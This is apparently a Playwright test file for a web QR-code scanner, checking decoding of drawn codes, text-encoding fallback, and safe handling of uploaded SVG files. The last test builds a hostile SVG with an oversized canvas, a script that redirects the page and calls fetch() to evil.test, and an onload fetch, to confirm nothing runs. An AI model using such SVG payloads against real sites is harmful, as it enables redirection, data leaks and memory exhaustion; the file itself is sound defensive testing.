/** Tests image files with codes. Each test draws its own image. */
import { flatCode, onLargePhoto } from '@countersign/fixtures/flat-code';
import { symbolOf } from '@countersign/fixtures/symbol';
import type { Page } from '@playwright/test';
import { expect, test } from './support/test.ts';
import { NO_PAGE_ERRORS } from './support/watch-page.ts';

const GOOD = 'https://pay.example.com/loan/4711';
const PHOTO = { width: 4000, height: 3000 };

/** Returns a generator of uniform noise from 0 to 1. The noise is the same in every run. */
function grainOf(seed: number): () => number {
  let state = seed;
  return () => (state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) / 2 ** 32;
}

const PICTURES: Record<string, (text: string) => Promise<Buffer>> = {
  'of one pixel a module': (text) => flatCode('QRCode', text, { module: 1 }),
  'of a code printed in halftone': (text) =>
    flatCode('QRCode', text, {
      module: 3,
      shade: (x, y, isDark) => (isDark ? ((x >> 2) % 2 === (y >> 2) % 2 ? 100 : 5) : 250),
    }),
  'of a small code on a large photograph': async (text) =>
    onLargePhoto(await flatCode('QRCode', text, { module: 3 }), PHOTO),
  'of a grainy code on a panorama': async (text) => {
    const grain = grainOf(5);
    const code = await flatCode('QRCode', text, {
      module: 24,
      shade: (_x, _y, isDark) => Math.max(0, Math.min(255, (isDark ? 70 : 180) + (grain() - 0.5) * 280)),
    });
    return onLargePhoto(code, { width: 8000, height: 1500 });
  },
};

test('small, halftone, large and grainy pictures are read', async ({ page, server, watch }) => {
  await page.goto(`${server.url}/qr-scanner`);
  for (const [index, [name, draw]] of Object.entries(PICTURES).entries()) {
    await test.step(name, async () => {
      const address = `https://pay.example.com/loan/${4711 + index}`;
      await choose(page, { name: 'code.png', mimeType: 'image/png', buffer: await draw(address) });
      await expect(page.getByText(address, { exact: true })).toBeVisible();
      await expect(page.getByText('Valid URL detected!')).toBeVisible();
      await page.getByRole('button', { name: 'Scan Again' }).click();
    });
  }
  expect(watch).toEqual(NO_PAGE_ERRORS);
});

test('bytes without a character set are read as UTF-8, then Latin-1, and otherwise shown', async ({
  page,
  server,
  watch,
}) => {
  await page.goto(`${server.url}/qr-scanner`);
  const chooseCode = async (format: 'DataMatrix' | 'Aztec', bytes: Uint8Array) =>
    choose(page, {
      name: 'code.png',
      mimeType: 'image/png',
      buffer: await flatCode(format, bytes, { module: 6 }),
    });
  const texts = [
    ['DataMatrix', 'भुगतान ₹ 4711', 'utf8'],
    ['Aztec', 'भुगतान ₹ 4711', 'utf8'],
    ['DataMatrix', 'Müller & Söhne', 'latin1'],
    ['Aztec', 'Müller & Söhne', 'latin1'],
  ] as const;
  for (const [format, text, encoding] of texts) {
    await chooseCode(format, Buffer.from(text, encoding));
    await expect(page.getByText(text, { exact: true })).toBeVisible();
    await page.getByRole('button', { name: 'Scan Again' }).click();
  }
  await chooseCode('DataMatrix', Uint8Array.of(0x44, 0x45, 0x00, 0xff, 0x1e, 0x85));
  await expect(page.getByRole('alert')).toContainText('This code contains no readable text');
  await expect(page.getByRole('alert')).toContainText('DataMatrix: DE␀ÿ␞\\x85');
  expect(watch).toEqual(NO_PAGE_ERRORS);
});

test('an SVG is read, but runs and loads nothing', async ({ page, server, watch }) => {
  await page.goto(`${server.url}/qr-scanner`);
  const symbol = await symbolOf('QRCode', GOOD);
  const cells = Array.from({ length: symbol.width * symbol.height }, (_, at) => {
    const [x, y] = [at % symbol.width, Math.floor(at / symbol.width)];
    return symbol.isDark(x, y) ? `<rect x="${x}" y="${y}" width="1" height="1"/>` : '';
  });
  // At its declared size, this SVG file would need 40 GB of memory.
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000" viewBox="-4 -4 41 41">
    <style>@import url('https://evil.test/a.css');</style>
    <script>window.top.location = 'https://evil.test/'; fetch('https://evil.test/b');</script>
    <image href="https://evil.test/c.png" width="1" height="1" onload="fetch('https://evil.test/d')"/>
    ${cells.join('')}</svg>`;
  await choose(page, { name: 'code.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(drawing) });
  await expect(page.getByText('Valid URL detected!')).toBeVisible();
  await expect(page.getByText(GOOD, { exact: true })).toBeVisible();
  expect(watch).toEqual(NO_PAGE_ERRORS);
});

async function choose(page: Page, file: { name: string; mimeType: string; buffer: Buffer }): Promise<void> {
  await page.getByLabel('Scan an image instead', { exact: true }).first().setInputFiles(file);
}
